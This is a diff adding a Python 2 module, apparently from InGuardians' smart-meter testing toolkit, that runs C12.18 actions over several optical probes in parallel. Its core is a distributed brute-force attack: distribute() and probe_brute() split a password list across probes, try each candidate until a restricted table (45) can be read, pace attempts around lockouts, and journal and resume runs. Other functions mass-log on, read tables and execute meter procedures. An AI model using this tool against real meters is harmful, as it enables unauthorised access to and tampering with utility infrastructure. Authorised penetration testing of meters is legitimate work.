@@ -0,0 +1,467 @@
+# c12_18_parallel.py - python module for running the same C12.18 action on
+# several optical probes at the same time.
+#
+# Copyright (c) 2011, InGuardians, Inc. <consulting@inguardians.com>
+#
+# This program is free software: you can redistribute it and/or modify
+# it under the terms of the GNU General Public License as published by
+# the Free Software Foundation, either version 3 of the License, or
+# (at your option) any later version.
+#
+# This program is distributed in the hope that it will be useful,
+# but WITHOUT ANY WARRANTY; without even the implied warranty of
+# MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+# GNU General Public License for more details.
+#
+# You should have received a copy of the GNU General Public License
+# along with this program.  If not, see <http://www.gnu.org/licenses/>.
+
+# Point Of Contact:    Don C. Weber <don@inguardians.com>
+
+# Each probe gets its own SERCONN and C1218_packet so nothing is shared
+# between threads except the pacing profiles, which are keyed by port.
+# Most of the time is spent waiting on the serial ports so threads are
+# enough to keep every probe busy.
+#
+# distribute() splits one password source across the probes. Each probe
+# brute forces its own slice against its own meter, all of them sharing the
+# same security code, and every probe stops as soon as one of them reads a
+# restricted table.
+
+import sys, time
+import binascii
+import traceback
+import threading
+from multiprocessing.pool import ThreadPool
+import byte_tools as bt
+import c12_18_serial as c12serial
+import c12_18_packet as c12packet
+import c12_18_scheduler as c12scheduler
+import c12_18_checkpoint as c12checkpoint
+import c12_18_passwd_sources as c12passwd
+import c12_18_ledger as c12ledger
+import c12_18_catalog as c12catalog
+import c12_18_schema as c12schema
+
+######################################
+# VARIABLES - These values will not change
+######################################
+# Outcomes
+SUCCESS = True
+FAIL    = False
+
+FLEET_TABLE  = 45           # Restricted table read to prove a security code works
+FLEET_METER  = 'fleet'      # Journal meter name for a distributed run
+STATUS_EVERY = 30           # Seconds between progress lines
+######################################
+
+class PROBE:
+    def __init__(self, port, baud = 9600, invert = 0, nego_on = False, debug = False, snapshots = None):
+        '''
+        One optical probe: the serial connection and the packet object that talks through it.
+        '''
+        self.port     = port
+        self.baud     = baud
+        self.invert   = invert
+        self.nego_on  = nego_on
+        self.debug    = debug
+        self.snapshots = snapshots  # SNAPSHOTS store shared by the probes
+        self.ser_conn = None
+        self.packet   = None
+        self.meter    = None    # Meter identity once known, such as the Table 01 serial number
+        self.error    = ''
+
+    def open(self):
+        '''Open the serial port. Returns success (True) or failure (False)'''
+        try:
+            self.ser_conn = c12serial.SERCONN(debug = self.debug)
+            self.ser_conn.serInit(port = self.port, baud = self.baud, invert = self.invert)
+        except Exception, e:
+            self.error = 'Could not open port: %s' % e
+            print "PROBE: %s: %s" % (self.port, self.error)
+            self.ser_conn = None
+            return FAIL
+        self.packet = c12packet.C1218_packet()
+        self.packet.set_debug(self.debug)
+        self.packet.set_nego(self.nego_on)
+        self.packet.set_snapshots(self.snapshots)
+        return SUCCESS
+
+    def close(self):
+        '''Close the serial port.'''
+        if self.ser_conn:
+            self.ser_conn.close()
+            self.ser_conn = None
+
+    def logon(self, user, passwd):
+        '''Run ident, negotiate, logon, and security. Returns success (True) or failure (False)'''
+        if not self.packet.login_setup(self.ser_conn):
+            return FAIL
+        return self.packet.login_seq_passwd(self.ser_conn, user, passwd)
+
+    def logoff(self):
+        '''Terminate the session.'''
+        return self.packet.send_terminate(self.ser_conn)
+
+class PARALLEL:
+    def __init__(self, ports, baud = 9600, invert = 0, nego_on = False, workers = None, debug = False, snapshots = None):
+        '''
+        Runs one action on every probe from a thread pool and collects a report per meter.
+        An action is a function that takes a PROBE plus any arguments and returns a dict.
+        '''
+        self.probes  = [PROBE(port, baud, invert, nego_on, debug, snapshots) for port in ports]
+        self.workers = workers or len(self.probes)
+        self.debug   = debug
+        self.lock    = threading.Lock()     # Serializes output from the workers
+        self.opened  = False
+
+    def open(self):
+        '''Open every probe. Probes that fail to open are left out of runs.
+            Returns the number of probes opened.'''
+        cnt = 0
+        for probe in self.probes:
+            if probe.open():
+                cnt += 1
+        self.opened = True
+        return cnt
+
+    def close(self):
+        '''Close every probe.'''
+        for probe in self.probes:
+            probe.close()
+        self.opened = False
+
+    def ready(self):
+        '''Return the probes with an open port.'''
+        return [probe for probe in self.probes if probe.ser_conn]
+
+    def run_one(self, probe, action, args):
+        '''Run action on one probe and return its report. Exceptions become failed reports so
+            one bad probe does not stop the others.'''
+        start = time.time()
+        try:
+            report = action(probe, *args)
+        except Exception, e:
+            report = {'ok':FAIL, 'error':'%s: %s' % (e.__class__.__name__, e)}
+            if self.debug:
+                self.lock.acquire()
+                traceback.print_exc()
+                self.lock.release()
+        report['port']    = probe.port
+        report['meter']   = probe.meter
+        report['elapsed'] = time.time() - start
+        return report
+
+    def run(self, action, *args):
+        '''Run action on every open probe at the same time. Returns the reports in probe order.'''
+        if not self.opened:
+            self.open()
+        return self.run_each(action, [args] * len(self.ready()))
+
+    def run_each(self, action, args_list, stop = None):
+        '''Run action on every open probe at the same time, the n'th probe with the n'th
+            arguments in args_list. stop is an event set on Ctrl-C so actions that check it
+            can finish. Returns the reports in probe order.'''
+        if not self.opened:
+            self.open()
+        probes = self.ready()
+        if not probes:
+            return []
+        pool = ThreadPool(min(self.workers, len(probes)))
+        try:
+            jobs = [pool.apply_async(self.run_one, (probe, action, args)) for probe, args in zip(probes, args_list)]
+            # get() with a timeout keeps Ctrl-C working in Python 2
+            reports = [job.get(sys.maxint) for job in jobs]
+        except KeyboardInterrupt:
+            if stop:
+                stop.set()
+            raise
+        finally:
+            pool.close()
+            pool.join()
+        return reports
+
+######################################
+# Actions
+######################################
+def meter_serial(table01):
+    '''Return the serial number of a decoded Table 01 as text. BCD serial numbers are their digits.'''
+    serial = table01['mfg_serial_nm']
+    if table01.kind('mfg_serial_nm') == 'binary':
+        return binascii.b2a_hex(serial)
+    return serial.strip()
+
+def meter_identity(data):
+    '''Return manufacturer and serial number from Table 01 data, None if it does not decode.'''
+    table01 = c12schema.decode(1, data)
+    if not table01:
+        return None
+    return table01['manufacturer'].strip() + '-' + meter_serial(table01)
+
+def probe_logon(probe, user, passwd):
+    '''Action: Test logon on one probe.'''
+    report = {'ok':FAIL, 'error':''}
+    if probe.logon(user, passwd):
+        report['ok'] = SUCCESS
+        probe.logoff()
+    elif probe.packet.last_result:
+        report['error'] = probe.packet.last_result.reason()
+    else:
+        report['error'] = 'Logon failed'
+    return report
+
+def probe_catalog(probe, nums, procedures = False):
+    '''Return [listed, skipped] for table or procedure numbers using the Table 00 catalog of
+        the meter on probe. Everything is listed if the meter cannot be identified or has no
+        catalog.'''
+    if not probe.meter:
+        results = probe.packet.full_table_read(probe.ser_conn, 1)
+        if results[0]:
+            probe.meter = meter_identity(probe.packet.parse_rtn_data(results[1])[2])
+            probe.packet.set_meter(probe.meter)
+    catalog = c12catalog.read_catalog(probe.packet, probe.ser_conn, probe.meter)
+    if not catalog:
+        return [nums, []]
+    if procedures:
+        return catalog.filter_procs(nums)
+    return catalog.filter_tables(nums)
+
+def probe_read_tables(probe, user, passwd, tables, catalog = False):
+    '''Action: Log on and read a list of tables on one probe. Table 01 is used to identify the meter
+        when it is in the list. With catalog tables the meter does not list in Table 00 are
+        skipped.'''
+    report = {'ok':FAIL, 'error':'', 'tables':{}}
+    if not probe.logon(user, passwd):
+        report['error'] = 'Logon failed'
+        return report
+    if catalog:
+        tables, report['skipped'] = probe_catalog(probe, tables)
+    for table in tables:
+        results = probe.packet.full_table_read(probe.ser_conn, table)
+        if results[0]:
+            report['tables'][table] = results[1]
+            if table == 1 and not probe.meter:
+                probe.meter = meter_identity(probe.packet.parse_rtn_data(results[1])[2])
+                probe.packet.set_meter(probe.meter)
+        else:
+            report['tables'][table] = results.reason()
+    probe.logoff()
+    report['ok'] = SUCCESS
+    return report
+
+def probe_run_procs(probe, user, passwd, procs, data = '', catalog = False):
+    '''Action: Log on and run a list of procedures on one probe, reading Table 08 after each one.
+        With catalog procedures the meter does not list in Table 00 are skipped.'''
+    report = {'ok':FAIL, 'error':'', 'procs':{}}
+    if not probe.logon(user, passwd):
+        report['error'] = 'Logon failed'
+        return report
+    if catalog:
+        procs, report['skipped'] = probe_catalog(probe, procs, procedures = True)
+    for proc in procs:
+        if not probe.packet.run_proc(probe.ser_conn, proc, data):
+            report['procs'][proc] = probe.packet.last_result.reason()
+            continue
+        results = probe.packet.full_table_read(probe.ser_conn, 8)
+        if results[0]:
+            report['procs'][proc] = results[1]
+        else:
+            report['procs'][proc] = results.reason()
+    probe.logoff()
+    report['ok'] = SUCCESS
+    return report
+
+class PROGRESS:
+    def __init__(self, total):
+        '''
+        Progress shared by the probes of a distributed brute force run. stop is set when a
+        probe finds the security code.
+        '''
+        self.total    = total       # Candidates in the source
+        self.done     = {}          # Candidates tried this run, per port
+        self.resumed  = 0           # Candidates tried by earlier runs
+        self.found    = None        # Security code that worked
+        self.found_by = None        # Port that found it
+        self.stop     = threading.Event()
+        self.lock     = threading.Lock()
+        self.started  = time.time()
+
+    def skip(self, cnt):
+        '''Count candidates tried by an earlier run.'''
+        self.lock.acquire()
+        self.resumed += cnt
+        self.lock.release()
+
+    def add(self, port, cnt = 1):
+        '''Count candidates tried on a port.'''
+        self.lock.acquire()
+        self.done[port] = self.done.get(port, 0) + cnt
+        self.lock.release()
+
+    def success(self, port, passwd):
+        '''A probe found the security code. Stops the other probes.'''
+        self.lock.acquire()
+        if self.found == None:
+            self.found    = passwd
+            self.found_by = port
+        self.lock.release()
+        self.stop.set()
+
+    def attempts(self):
+        '''Return the candidates tried this run on every probe.'''
+        return sum(self.done.values())
+
+    def rate(self):
+        '''Return the candidates tried per second on every probe together.'''
+        elapsed = time.time() - self.started
+        if not elapsed:
+            return 0
+        return self.attempts() / elapsed
+
+    def eta(self):
+        '''Return the seconds left to try every candidate, None until there is a rate.'''
+        rate = self.rate()
+        if not rate:
+            return None
+        return max(0, self.total - self.resumed - self.attempts()) / rate
+
+    def status(self):
+        '''Return a printable progress line.'''
+        tried = self.resumed + self.attempts()
+        pct = 0
+        if self.total:
+            pct = tried * 100.0 / self.total
+        left = self.eta()
+        eta = 'unknown'
+        if left != None:
+            eta = time.strftime('%H:%M:%S', time.gmtime(left))
+            if left >= 86400:
+                eta = '%dd %s' % (left / 86400, eta)
+        return "%d of %d candidates (%.1f%%) on %d probes, %.0f per hour, ETA %s" % (tried, self.total, pct, len(self.done), self.rate() * 3600, eta)
+
+    def monitor(self, period = STATUS_EVERY, onf = None):
+        '''Print the status every period seconds until finished is set. Returns the event.'''
+        finished = threading.Event()
+        def loop():
+            while not finished.wait(period) and not self.stop.is_set():
+                line = self.status()
+                print line
+                if onf: onf.write(line + "\n")
+        thread = threading.Thread(target = loop)
+        thread.daemon = True
+        thread.start()
+        return finished
+
+def probe_brute(probe, user, source, progress, table_num = FLEET_TABLE, journal_dir = None, limit = None, ledger_file = None):
+    '''Action: Brute force one slice of a password source on one probe. A code works when it
+        reads table_num. Stops when any probe finds the code. With journal_dir the slice is
+        journaled and resumed like a single probe run. With ledger_file codes that already
+        failed on this meter model are skipped and every attempt is added to the ledger.'''
+    report = {'ok':FAIL, 'error':'', 'found':None, 'attempts':0}
+    if not probe.packet.login_setup(probe.ser_conn) or not probe.packet.login_user(probe.ser_conn, user):
+        report['error'] = 'Logon failed'
+        return report
+    ledger = None
+    if ledger_file:
+        # Every probe has its own connection to the ledger file. Commit each attempt so no probe
+        # holds the write lock while another waits to record
+        ledger = c12ledger.LEDGER(ledger_file, batch = 1)
+        results = probe.packet.full_table_read(probe.ser_conn, 1)
+        fingerprint = probe.port
+        if results[0]:
+            data = probe.packet.parse_rtn_data(results[1])[2]
+            probe.meter = meter_identity(data)
+            probe.packet.set_meter(probe.meter)
+            fingerprint = c12ledger.meter_fingerprint(data) or fingerprint
+        ledger.scope(fingerprint, user)
+    scheduler = c12scheduler.get_scheduler(probe.port, probe.meter)
+    scheduler.debug = probe.debug
+    start = 0
+    checkpoint = None
+    candidates = source.iterate()
+    if journal_dir:
+        checkpoint = c12checkpoint.CHECKPOINT(journal_dir, FLEET_METER, user, source.digest())
+        start = checkpoint.load()
+        if checkpoint.found:
+            progress.success(probe.port, checkpoint.found)
+        progress.skip(start - len(checkpoint.errors))
+        checkpoint.open()
+        candidates = checkpoint.resume(source)
+    for idx, passwd in candidates:
+        if progress.stop.is_set():
+            break
+        if ledger and ledger.known_bad(passwd):
+            if checkpoint: checkpoint.record(idx, passwd, c12checkpoint.ATTEMPT_FAIL, probe.packet.seq)
+            progress.skip(1)
+            continue
+        ok = c12scheduler.attempt(scheduler, probe.packet, probe.ser_conn, user, passwd, table_num, limit)
+        report['attempts'] += 1
+        progress.add(probe.port)
+        if ok == None:
+            result = c12checkpoint.ATTEMPT_ERR
+            report['error'] = 'Meter did not recover from the lockout'
+        elif ok:
+            result = c12checkpoint.ATTEMPT_OK
+            report['found'] = passwd
+            progress.success(probe.port, passwd)
+        else:
+            result = c12checkpoint.ATTEMPT_FAIL
+            last = probe.packet.last_result
+            if last and (last.code == None or last.code in probe.packet.retry_codes):
+                result = c12checkpoint.ATTEMPT_ERR
+        if checkpoint: checkpoint.record(idx, passwd, result, probe.packet.seq)
+        if ledger: ledger.record(passwd, result)
+        if ok != False:
+            break
+    if checkpoint:
+        checkpoint.close()
+    if ledger:
+        ledger.close()
+    if probe.packet.logon:
+        probe.logoff()
+    else:
+        probe.packet.send_terminate(probe.ser_conn)
+    report['ok'] = not report['error']
+    return report
+
+def distribute(parallel, source, user, table_num = FLEET_TABLE, journal_dir = None, interleave = True, period = STATUS_EVERY, onf = None, limit = None, ledger_file = None):
+    '''Split source across the open probes and brute force every slice at the same time.
+        Interleaved slices keep every probe on the front of a ranked list. Returns the
+        PROGRESS and the reports in probe order.'''
+    if not parallel.opened:
+        parallel.open()
+    probes = parallel.ready()
+    progress = PROGRESS(len(source))
+    if not probes:
+        return progress, []
+    slices = [c12passwd.partition(source, len(probes), part, interleave) for part in range(len(probes))]
+    finished = progress.monitor(period, onf)
+    try:
+        reports = parallel.run_each(probe_brute, [(user, part, progress, table_num, journal_dir, limit, ledger_file) for part in slices], progress.stop)
+    finally:
+        finished.set()
+    return progress, reports
+
+def report_lines(reports):
+    '''Return printable lines for a list of probe reports.'''
+    lines = []
+    for report in reports:
+        status = 'OK'
+        if not report['ok']:
+            status = 'FAILED: ' + report['error']
+        lines.append("Port %s meter %s: %s (%.1f seconds)" % (report['port'], report['meter'], status, report['elapsed']))
+        if 'attempts' in report:
+            lines.append("    Attempts: %d" % report['attempts'])
+        if report.get('found'):
+            lines.append("    Found: %s" % bt.print_data(report['found']))
+        if report.get('skipped'):
+            lines.append("    Skipped, not in Table 00: %s" % ','.join([str(e) for e in report['skipped']]))
+        for key in ('tables', 'procs'):
+            if key not in report:
+                continue
+            for num in sorted(report[key]):
+                value = report[key][num]
+                if value and value[:1] == '\x00':
+                    value = bt.print_data(value)
+                lines.append("    %s %d: %s" % (key[:-1].capitalize(), num, value))
+    return lines